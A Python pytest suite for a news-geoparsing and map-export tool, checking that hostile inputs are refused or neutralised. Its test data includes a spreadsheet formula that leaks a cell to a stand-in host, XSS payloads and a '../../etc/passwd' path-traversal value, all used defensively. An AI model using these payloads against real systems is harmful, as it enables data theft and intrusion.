"""Hostile and odd inputs at the edges of the product: every one gets a clear message and an exit code or an
ArticleError, never a traceback, a hang or a half-written file.  Real files, FIFOs and subprocesses."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path
from urllib.parse import quote

import pytest
from playwright.sync_api import Error as PlaywrightError

from geo.files import OutputPathError, check_output_path
from geo.text.article import ArticleError
from geo.text.readers import article_from_text, load_corpus, read_article_bytes, read_article_file, read_jsonl
from tests.conftest import REPO_ROOT


def run_geo(*args: str, timeout: float = 300) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "geo", *args], cwd=REPO_ROOT, capture_output=True, text=True,
                          timeout=timeout)


def run_many(*commands: list[str], timeout: float = 300) -> list[subprocess.CompletedProcess[str]]:
    """`run_geo` for each command at once (two cores: each process mostly waits on its imports)."""
    from concurrent.futures import ThreadPoolExecutor

    with ThreadPoolExecutor(max_workers=2) as pool:
        return list(pool.map(lambda command: run_geo(*command, timeout=timeout), commands))


def assert_clean_failure(result: subprocess.CompletedProcess[str], *needles: str) -> None:
    assert result.returncode == 2, (result.stdout, result.stderr)
    assert "Traceback" not in result.stderr, result.stderr
    for needle in needles:
        assert needle in result.stderr, result.stderr


# ---------------------------------------------------------------- articles that look like binaries


@pytest.mark.parametrize("text", [
    "RIFF between Bamako and Paris widens over the French ambassador.",
    "MZ, a Malian journalist, reported from Gao.",
    "GIF8 is not a word, but this line about Niamey is an article.",
    "%PDF- is how PDF files start; this one is about Ouagadougou.",
    "Rar! said no one in Niamey.",
])
def test_text_starting_like_a_file_signature_is_an_article(text: str) -> None:
    assert read_article_bytes(text.encode("utf-8"), "note.txt").text == text


@pytest.mark.parametrize(("data", "kind"), [
    (b"RIFF\x24\x08\x00\x00WAVEfmt ", "media file"), (b"GIF89a\x01\x00\x01\x00", "GIF image"),
    (b"MZ\x90\x00\x03\x00\x00\x00", "Windows program"), (b"%PDF-1.7\n%\xe2\xe3", "PDF document"),
])
def test_real_file_signatures_are_still_refused(data: bytes, kind: str) -> None:
    with pytest.raises(ArticleError, match=kind):
        read_article_bytes(data + b"rest of the file", "renamed.txt")


# ---------------------------------------------------------------- what is not a regular file


def test_a_fifo_is_refused_without_blocking(tmp_path: Path) -> None:
    fifo = tmp_path / "article.txt"
    os.mkfifo(fifo)
    with pytest.raises(ArticleError, match="not a regular file"):
        read_article_file(fifo)  # would block forever if it were opened for a plain read
    lines = tmp_path / "feed.jsonl"
    os.mkfifo(lines)
    assert read_jsonl(lines)[0] == [] and "not a regular file" in read_jsonl(lines)[1][0][1]
    articles, errors = load_corpus([fifo])
    assert articles == [] and "not a regular file" in errors[0][1]


def test_a_fifo_given_to_the_commands_is_refused(tmp_path: Path) -> None:
    fifo = tmp_path / "article.txt"
    os.mkfifo(fifo)
    out = tmp_path / "map.geojson"
    mentions, exported = run_many(["mentions", str(fifo)],
                                  ["export", "--format", "geojson", "--out", str(out), "--articles", str(fifo)],
                                  timeout=120)
    assert_clean_failure(mentions, "not a regular file")
    assert_clean_failure(exported, "not a regular file", "no readable article")
    assert not out.exists()


# ---------------------------------------------------------------- text no file can hold


def test_lone_surrogates_are_refused_with_a_message() -> None:
    with pytest.raises(ArticleError, match="invalid character"):
        article_from_text("Troops reached Gao \ud800 yesterday.")
    with pytest.raises(ArticleError, match="invalid character"):
        article_from_text("Troops reached Gao.", title="Gao \udfff")


def test_bad_json_lines_are_reported_by_number_and_the_others_kept(tmp_path: Path) -> None:
    good = json.dumps({"id": "a", "text": "Convoys left Niamey."})
    nested = "[" * 100_000 + "]" * 100_000
    surrogate = '{"id": "b", "text": "Gao \\ud800 Mopti"}'
    path = tmp_path / "feed.jsonl"
    path.write_text("\n".join([good, nested, surrogate, good.replace('"a"', '"c"')]) + "\n", encoding="utf-8")
    articles, errors = read_jsonl(path)
    assert [a.id for a in articles] == ["a", "c"]
    assert [where.rsplit(":", 1)[1] for where, _ in errors] == ["2", "3"]
    assert "nested too deeply" in errors[0][1] and "invalid character" in errors[1][1]
    result = run_geo("mentions", "--input-jsonl", str(path), "--format", "jsonl")
    assert result.returncode == 0 and "Traceback" not in result.stderr, result.stderr
    assert {json.loads(line)["article"] for line in result.stdout.splitlines()} == {"a", "c"}


def test_a_long_file_name_keeps_its_extension() -> None:
    name = "Rapport " + "très long " * 40 + ".md"
    article = read_article_bytes(b"Troops reached Gao.", name)
    assert article.text == "Troops reached Gao." and article.origin.endswith(".md")
    with pytest.raises(ArticleError, match=r"type '\.exe'"):
        read_article_bytes(b"x", "y" * 300 + ".exe")


# ---------------------------------------------------------------- output paths


def test_output_path_check(tmp_path: Path) -> None:
    assert check_output_path(tmp_path / "map.html", (".html",)) == tmp_path / "map.html"
    cases = {
        tmp_path: "is a folder",
        tmp_path / "missing" / "map.html": "does not exist",
        tmp_path / "file.txt" / "map.html": "is a file, not a folder",
        tmp_path / "map.png": "should end in .html",
    }
    (tmp_path / "file.txt").write_text("x")
    for path, message in cases.items():
        with pytest.raises(OutputPathError, match=message):
            check_output_path(path, (".html",))
    assert not (tmp_path / "missing").exists()  # never created silently


@pytest.mark.parametrize("command", ["mentions", "export"])
def test_commands_refuse_bad_output_paths_before_working(command: str, tmp_path: Path) -> None:
    article = tmp_path / "a.txt"
    article.write_text("Convoys left Niamey for Agadez.", encoding="utf-8")
    (tmp_path / "plain").write_text("a file")
    fmt, suffix = ("csv", ".csv")
    base = ["mentions", str(article), "--format", fmt] if command == "mentions" else \
        ["export", "--format", fmt, "--articles", str(article), "--as-of", "2024-01-01"]
    cases = [(tmp_path, "is a folder"), (tmp_path / "no" / f"x{suffix}", "does not exist"),
             (tmp_path / "plain" / f"x{suffix}", "not a folder"), (tmp_path / "x.html", "should end in")]
    for result, (_out, message) in zip(run_many(*([*base, "--out", str(out)] for out, _ in cases)), cases):
        assert_clean_failure(result, message)
    assert not (tmp_path / "no").exists() and not (tmp_path / "x.html").exists()


def test_a_write_that_fails_is_an_error_not_a_traceback(tmp_path: Path) -> None:
    article = tmp_path / "a.txt"
    article.write_text("Convoys left Niamey for Agadez.", encoding="utf-8")
    # /proc accepts no new files, not even from root: the write itself fails after every check passed.
    for result in run_many(["mentions", str(article), "--format", "csv", "--out", "/proc/mentions.csv"],
                           ["export", "--format", "csv", "--out", "/proc/map.csv", "--articles", str(article)]):
        assert_clean_failure(result, "could not write")


def test_export_fails_when_no_article_can_be_read(tmp_path: Path) -> None:
    out = tmp_path / "map.csv"
    binary = tmp_path / "b.txt"
    binary.write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00")
    missing, png = run_many(["export", "--format", "csv", "--out", str(out), "--articles", str(tmp_path / "missing.txt")],
                            ["export", "--format", "csv", "--out", str(out), "--articles", str(binary)])
    assert_clean_failure(missing, "skipped", "no readable article")
    assert_clean_failure(png, "PNG image")
    assert not out.exists()


def test_export_date_range_is_the_dashboards(tmp_path: Path) -> None:
    result = run_geo("export", "--format", "csv", "--out", str(tmp_path / "m.csv"), "--as-of", "1990-01-01")
    assert result.returncode == 2 and "outside the dates the map covers (2012-01-01" in result.stderr


# ---------------------------------------------------------------- Unicode normalisation


def test_decomposed_accents_find_the_same_places_with_offsets_into_the_text_as_given(tmp_path: Path) -> None:
    from geo.geoparse.parser import parse

    import unicodedata

    composed = "Les soldats ont quitté Tillabéri pour Ménaka et Ségou."
    decomposed = unicodedata.normalize("NFD", composed)
    assert decomposed != composed
    expected = [(m.surface, m.entry.entry_id if m.entry else None) for m in parse(composed)]
    found = parse(decomposed)
    assert [(unicodedata.normalize("NFC", m.surface), m.entry.entry_id if m.entry else None)
            for m in found] == expected
    assert all(decomposed[m.start:m.end] == m.surface for m in found)
    assert all(decomposed[m.sentence_start:m.sentence_start + len(m.sentence)] == m.sentence for m in found)
    path = tmp_path / "nfd.jsonl"
    path.write_text(json.dumps({"id": "nfd", "text": decomposed}, ensure_ascii=False) + "\n", encoding="utf-8")
    result = run_geo("mentions", "--input-jsonl", str(path), "--format", "jsonl")
    surfaces = [json.loads(line)["surface"] for line in result.stdout.splitlines()]
    assert len(surfaces) == len(expected) >= 3 and all(s in decomposed for s in surfaces)


# ---------------------------------------------------------------- pictures


@pytest.mark.parametrize("extra", [["--scale", "nan"], ["--scale", "inf"], ["--scale", "-1"], ["--scale", "50"],
                                   ["--width", "0"], ["--height", "100000"], ["--width", "9000", "--scale", "8"]])
def test_picture_sizes_chromium_cannot_draw_are_refused(extra: list[str], tmp_path: Path) -> None:
    out = tmp_path / "map.png"
    assert_clean_failure(run_geo("export", "--format", "png", "--out", str(out), "--as-of", "2024-01-01", *extra),
                         "error:")
    assert not out.exists()


def test_a_broken_chromium_is_named_in_the_message(tmp_path: Path) -> None:
    fake = tmp_path / "chromium"
    fake.write_text("#!/bin/sh\necho 'not a browser' >&2\nexit 1\n")
    fake.chmod(0o755)
    out = tmp_path / "map.png"
    result = subprocess.run([sys.executable, "-m", "geo", "export", "--format", "png", "--out", str(out),
                             "--as-of", "2024-01-01", "--articles", str(REPO_ROOT / "data" / "articles")],
                            cwd=REPO_ROOT, capture_output=True, text=True, timeout=300,
                            env={**os.environ, "SAHEL_CHROMIUM": str(fake)})
    assert_clean_failure(result, "could not start Chromium at " + str(fake), "apt-get install -y chromium")
    assert not out.exists() and not list(tmp_path.glob(".map.png*"))


# ---------------------------------------------------------------- spreadsheets


FORMULA_TITLE = '=HYPERLINK("http://example.org/?leak="&A1,"Click")'


def _csv_cells(path: Path) -> list[str]:
    import csv

    with path.open(encoding="utf-8", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_csv_exports_never_hold_a_formula(tmp_path: Path) -> None:
    article = tmp_path / "a.md"
    article.write_text(f"---\ntitle: {json.dumps(FORMULA_TITLE)}\n---\n\n=SUM(1+1) Troops left Gao.\n\n"
                       "@cmd Convoys reached Niamey.\n", encoding="utf-8")
    mentions_csv, export_csv = tmp_path / "mentions.csv", tmp_path / "export.csv"
    done = run_many(["mentions", str(article), "--format", "csv", "--out", str(mentions_csv)],
                    ["export", "--format", "csv", "--out", str(export_csv), "--articles", str(article),
                     "--as-of", "2024-01-01"])
    assert [result.returncode for result in done] == [0, 0], [result.stderr for result in done]
    for path in (mentions_csv, export_csv):
        cells = _csv_cells(path)
        assert "'" + FORMULA_TITLE in cells, path  # kept, shown as text
        risky = [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r")) and not _is_number(c)]
        assert risky == [], (path, risky)


# ================================================================ more classes of issue 13, one case per param

CASE_TIME_LIMIT_S = 150  # no pytest-timeout here: a case that hangs is stopped by SIGALRM and fails


@pytest.fixture(autouse=True)
def _time_limit() -> object:
    import signal

    def stop(signum: int, frame: object) -> None:
        raise TimeoutError(f"hostile-input case ran over {CASE_TIME_LIMIT_S} s (a hang)")

    previous = signal.signal(signal.SIGALRM, stop)
    signal.alarm(CASE_TIME_LIMIT_S)
    yield
    signal.alarm(0)
    signal.signal(signal.SIGALRM, previous)


GOOD_LINE = json.dumps({"id": "good", "text": "Convoys left Niamey."})


# (the line(s) of the file, the ids kept, a word of the error for line 1 or None)
JSONL_CASES = {
    "bom": ("\ufeff" + GOOD_LINE, ["good"], None),
    "crlf": (GOOD_LINE + "\r\n" + GOOD_LINE.replace('"good"', '"two"') + "\r\n", ["good", "two"], None),
    "empty-lines": ("\n\n" + GOOD_LINE + "\n   \n\n", ["good"], None),
    "array": ("[1, 2]", [], "expected a JSON object"),
    "number": ("42", [], "expected a JSON object"),
    "string": ('"Niamey"', [], "expected a JSON object"),
    "null": ("null", [], "expected a JSON object"),
    "id-list": ('{"id": [1], "text": "Gao."}', [], '"id"'),
    "id-number": ('{"id": 5, "text": "Gao."}', ["5"], None),
    "text-number": ('{"id": "x", "text": 5}', [], '"text"'),
    "text-null": ('{"id": "x", "text": null}', [], '"text"'),
    "date-garbage": ('{"id": "x", "text": "Gao.", "date": "2023-13-45"}', ["x"], None),
    "date-object": ('{"id": "x", "text": "Gao.", "date": {"y": 1}}', ["x"], None),
    "title-object": ('{"id": "x", "text": "Gao.", "title": {"y": 1}}', ["x"], None),
    "truncated": ('{"id": "x", "text": "Gao', [], "line 1"),
    "deep-object": ('{"a":' * 50_000 + "1" + "}" * 50_000, [], "nested too deeply"),
    "line-just-over-8MB": (json.dumps({"id": "h", "text": "a" * 8_000_000}), [], "longer than 8,000,000 bytes"),
}


@pytest.mark.parametrize("case", list(JSONL_CASES), ids=list(JSONL_CASES))
def test_odd_json_lines_are_kept_or_rejected_by_line(case: str, tmp_path: Path) -> None:
    content, kept, error = JSONL_CASES[case]
    path = tmp_path / "feed.jsonl"
    path.write_text(content + "\n" + json.dumps({"id": "last", "text": "Troops reached Gao."}) + "\n",
                    encoding="utf-8")
    articles, errors = read_jsonl(path)
    assert [a.id for a in articles] == [*kept, "last"]  # the good line after a bad one is never lost
    if error is None:
        assert errors == []
    else:
        assert len(errors) == 1 and error in errors[0][1] and errors[0][0].endswith(":1"), errors
    assert all(a.date is None or hasattr(a.date, "isoformat") for a in articles)


@pytest.mark.parametrize(("data", "expected"), [
    ("Les soldats à Niamey, été.".encode("utf-16-be"), "Les soldats à Niamey, été."),
    ("Les soldats à Ségou, l'été.".encode("latin-1"), "Les soldats à Ségou, l'été."),
    ("Les soldats à Ménaka.".encode().decode("latin-1").encode(), "Les soldats à Ménaka."),
    ("Se\u0301gou et Me\u0301naka".encode(), "Ségou et Ménaka"),
    ("Nia\u200bmey \u202eGao\u202c".encode(), None),
], ids=["utf16-be-no-bom", "latin-1", "double-encoded-utf8", "nfd-accents", "zero-width-and-rtl-override"])
def test_wrongly_encoded_text_decodes_or_is_refused(data: bytes, expected: str | None) -> None:
    article = read_article_bytes(data, "note.txt")
    if expected is not None:
        assert article.text == expected
    assert "\ufffd" not in article.text and "\x00" not in article.text
    assert "\u202e" not in article.title  # a title never flips the text around it


def test_nul_bytes_are_refused_as_binary() -> None:
    with pytest.raises(ArticleError, match="NUL bytes"):
        read_article_bytes(b"Gao\x00Niamey is a city in Niger.", "nul.txt")


def test_text_just_over_the_character_limit_is_refused() -> None:
    from geo.text.article import MAX_TEXT_CHARS

    with pytest.raises(ArticleError, match="the limit is 2,000,000"):
        article_from_text("a" * (MAX_TEXT_CHARS + 1))


def test_file_just_over_the_size_limit_is_refused(tmp_path: Path) -> None:
    from geo.text.article import MAX_FILE_BYTES

    path = tmp_path / "big.txt"
    with path.open("wb") as handle:
        handle.truncate(MAX_FILE_BYTES + 1)
    with pytest.raises(ArticleError, match="limit is 10 MB"):
        read_article_file(path)


def _not_a_file(tmp_path: Path, kind: str) -> Path:
    if kind == "dev-zero-as-txt":
        os.symlink("/dev/zero", tmp_path / "zero.txt")
        return tmp_path / "zero.txt"
    if kind == "dev-null-as-md":
        os.symlink("/dev/null", tmp_path / "null.md")
        return tmp_path / "null.md"
    if kind == "symlink-loop":
        os.symlink(tmp_path / "loop.md", tmp_path / "loop.md")
        return tmp_path / "loop.md"
    (tmp_path / "folder.txt").mkdir()
    return tmp_path / "folder.txt"


@pytest.mark.parametrize("kind", ["dev-zero-as-txt", "dev-null-as-md", "symlink-loop", "folder-named-txt"])
def test_what_is_not_a_regular_file_is_refused(kind: str, tmp_path: Path) -> None:
    path = _not_a_file(tmp_path, kind)
    with pytest.raises(ArticleError, match="not a regular file|could not be read|is a folder"):
        read_article_file(path)
    articles, _errors = load_corpus([path])
    assert articles == []


def test_a_file_name_of_255_bytes_is_read(tmp_path: Path) -> None:
    path = tmp_path / ("r" * 251 + ".txt")
    path.write_text("Troops reached Gao.", encoding="utf-8")
    assert read_article_file(path).text == "Troops reached Gao."


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"], ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_every_formula_prefix_is_neutralised(prefix: str) -> None:
    import csv
    import io

    import pandas as pd

    from geo.spreadsheet import csv_text

    value = prefix + 'HYPERLINK("http://example.org/?leak="&A1)'
    rows = list(csv.reader(io.StringIO(csv_text(pd.DataFrame({"title": [value], "lon": [-3.5]})))))
    assert rows[1] == ["'" + value, "-3.5"]


# ---------------------------------------------------------------- shared links, read without Streamlit

LONG = "a" * 100_000


@pytest.mark.parametrize(("query", "note"), [
    ({"map": "nan,inf,99"}, "map="), ({"map": "14,0,2.5"}, "map="), ({"map": "1,2"}, "map="),
    ({"views": "<img src=x onerror=window.__pwned=1>"}, "views:"), ({"present": "<b>"}, "present="),
    ({"layers": LONG}, "layers: unknown"), ({"asof": "9" * 100_000}, "is not a date"),
    ({"def": "<script>alert(1)</script>"}, "is not a Liptako-Gourma definition"),
], ids=["map-nan-inf-99", "map-fractional-zoom", "map-two-numbers", "views-html", "present-html", "layers-100k",
        "asof-100k", "def-script"])
def test_bad_link_values_become_defaults_with_a_short_note(query: dict[str, str], note: str) -> None:
    import datetime as dt

    from geo.web.view_state import read_view

    view, notes = read_view(query, today=dt.date(2024, 1, 1))
    assert view.map_view is None and view.saved_views == () and not view.presentation
    assert len(notes) == 1 and note in notes[0] and len(notes[0]) < 300, notes


def test_a_path_in_the_article_parameter_is_only_a_name() -> None:
    from geo.web.view_state import read_view

    view, notes = read_view({"article": "../../etc/passwd", "present": "yes"})
    assert view.article == "../../etc/passwd" and view.presentation and notes == []  # an id to look up, not a path


# ---------------------------------------------------------------- the commands, as subprocesses


@pytest.mark.parametrize("bounds", ["nan,0,10,5", "0,0,100,5", "0,-inf,10,inf", "18,-6,10,5", "10,-6,18"],
                         ids=["nan", "out-of-range", "inf", "south-above-north", "three-numbers"])
def test_odd_bounds_are_refused(bounds: str, tmp_path: Path) -> None:
    out = tmp_path / "map.kml"
    assert_clean_failure(run_geo("export", "--format", "kml", "--out", str(out), "--as-of", "2024-01-01",
                                 f"--bounds={bounds}", timeout=120), "error:")
    assert not out.exists()


def test_a_huge_picture_width_is_refused(tmp_path: Path) -> None:
    out = tmp_path / "map.png"
    assert_clean_failure(run_geo("export", "--format", "png", "--out", str(out), "--width", "100000", timeout=120),
                         "width must be")
    assert not out.exists()


def test_a_chromium_that_is_bin_false_is_named(tmp_path: Path) -> None:
    article = tmp_path / "a.txt"
    article.write_text("Convoys left Niamey for Agadez.", encoding="utf-8")
    out = tmp_path / "map.png"
    result = subprocess.run([sys.executable, "-m", "geo", "export", "--format", "png", "--out", str(out),
                             "--articles", str(article)], cwd=REPO_ROOT, capture_output=True, text=True,
                            timeout=120, env={**os.environ, "SAHEL_CHROMIUM": "/bin/false"})
    assert_clean_failure(result, "could not start Chromium at /bin/false")
    assert not out.exists()


def test_mentions_skips_devices_loops_and_folders_named_like_articles(tmp_path: Path) -> None:
    paths = [_not_a_file(tmp_path, kind) for kind in ("dev-zero-as-txt", "symlink-loop")]
    good = tmp_path / "good.txt"
    good.write_text("Convoys left Niamey for Agadez.", encoding="utf-8")
    result = run_geo("mentions", *map(str, paths), str(good), "--format", "csv", timeout=120)
    assert result.returncode == 0 and "Traceback" not in result.stderr, result.stderr
    assert "not a regular file" in result.stderr and "symbolic links" in result.stderr
    assert "Agadez" in result.stdout


def test_a_read_only_folder_is_refused_as_output(tmp_path: Path) -> None:
    article = tmp_path / "a.txt"
    article.write_text("Convoys left Niamey for Agadez.", encoding="utf-8")
    if os.geteuid() == 0:  # root writes anywhere it may; sysfs refuses every new file, even root's
        folder = Path("/sys/kernel")
    else:
        folder = tmp_path / "locked"
        folder.mkdir()
        folder.chmod(0o555)
    result = run_geo("export", "--format", "csv", "--out", str(folder / "map.csv"), "--articles", str(article),
                     timeout=120)
    assert_clean_failure(result, "error:")
    assert "permission denied" in result.stderr.lower() or "could not write" in result.stderr
    assert not (folder / "map.csv").exists()


# ---------------------------------------------------------------- the dashboard in a real browser

PWNED = "<img src=x onerror=window.__pwned=1>"


def _assert_page_is_clean(page: object, network: object) -> None:
    """No Streamlit exception box, no script of ours run (in the page or the map's frame), nothing fetched."""
    page.wait_for_timeout(500)  # type: ignore[attr-defined]
    assert page.locator("[data-testid=stException]").count() == 0  # type: ignore[attr-defined]
    for frame in page.frames:  # type: ignore[attr-defined]
        try:
            assert frame.evaluate("() => window.__pwned === undefined"), frame.url
        except PlaywrightError:  # a frame replaced while we looked
            continue
    assert network.blocked == [], network.blocked  # type: ignore[attr-defined]


BROWSER_URLS = {
    "map-nan-inf-99": "/?map=nan,inf,99",
    "views-hostile": "/?views=" + quote(f"{PWNED}~2023-09-16~alliance~14.9,0.2,7;<script>window.__pwned=2</script>"),
    "article-path": "/?article=../../etc/passwd&present=yes",
    "ops-and-layers": "/?ops=" + quote("<b>x</b>,France") + "&layers=unknown,forces&asof=garbage",
    "def-custom-bogus": "/?def=custom&regions=" + quote(PWNED) + "&asof=2023-13-45",
    "long-query": "/?layers=" + "a" * 6_000 + "&asof=" + "1" * 2_000,
}


@pytest.mark.parametrize("case", list(BROWSER_URLS), ids=list(BROWSER_URLS))
def test_hostile_links_draw_a_map_in_the_browser(case: str, streamlit_url: str, offline_page: tuple) -> None:
    from tests.test_app_browser import open_map

    page, network = offline_page
    whole = case != "article-path"  # presentation mode has no sidebar
    open_map(page, streamlit_url + BROWSER_URLS[case], whole_page=whole)
    _assert_page_is_clean(page, network)


def test_hostile_titles_and_sentences_stay_text_in_the_dashboard(
        streamlit_url: str, offline_page: tuple, tmp_path: Path) -> None:
    from tests.test_app_browser import open_map, upload, wait_for_new_map

    page, network = offline_page
    open_map(page, streamlit_url)
    article = tmp_path / "pwned.md"
    article.write_text(f'---\ntitle: "{PWNED} Gao"\n---\n\n<script>window.__pwned=3</script> Gunmen attacked '
                       f"Inates near {PWNED} Tongo Tongo on Monday.\n", encoding="utf-8")
    page.get_by_text("Add or remove articles").click()  # type: ignore[attr-defined]
    upload(page, article)
    page.get_by_role("button", name="Add uploaded files").click()  # type: ignore[attr-defined]
    page.locator("[data-testid='stToast']").filter(has_text="Added").first.wait_for(timeout=60_000)  # type: ignore[attr-defined]
    wait_for_new_map(page, "s.tooltips.some(t => t.includes('Tongo Tongo'))")
    _assert_page_is_clean(page, network)
    # a bad upload afterwards: refused in words, and the saved article is still listed
    bad = tmp_path / "broken.txt"
    bad.write_bytes(b"\x00" * 4096)
    upload(page, bad)
    page.get_by_role("button", name="Add uploaded files").click()  # type: ignore[attr-defined]
    page.locator("[data-testid='stAlertContentError']").filter(has_text="broken.txt").first.wait_for(timeout=60_000)  # type: ignore[attr-defined]
    assert wait_for_new_map(page, "s.tooltips.some(t => t.includes('Tongo Tongo'))")
    _assert_page_is_clean(page, network)


@pytest.mark.parametrize("fmt", ["kml", "geojson"])
def test_hostile_titles_reach_gis_exports_as_inert_text(fmt: str, tmp_path: Path) -> None:
    article = tmp_path / "a.md"
    article.write_text(f'---\ntitle: "{PWNED} ]]></name><script>x</script>"\n---\n\n'
                       f"Convoys left Niamey {PWNED} for Agadez.\n", encoding="utf-8")
    out = tmp_path / f"map.{fmt}"
    result = run_geo("export", "--format", fmt, "--out", str(out), "--articles", str(article),
                     "--as-of", "2024-01-01", timeout=120)
    assert result.returncode == 0 and "Traceback" not in result.stderr, result.stderr
    text = out.read_text(encoding="utf-8")
    if fmt == "kml":
        import xml.etree.ElementTree as ET

        root = ET.fromstring(text)
        assert {e.tag.rsplit("}", 1)[-1] for e in root.iter()}.isdisjoint({"script", "img"})
        descriptions = " ".join(e.text or "" for e in root.iter() if e.tag.endswith("description"))
        assert "&lt;img src=x onerror" in descriptions and "<img" not in descriptions  # escaped HTML tables
    else:
        titles = {f["properties"].get("title") for f in json.loads(text)["features"]}
        assert any(PWNED in str(t) for t in titles)  # raw text, as the README says GeoJSON properties are
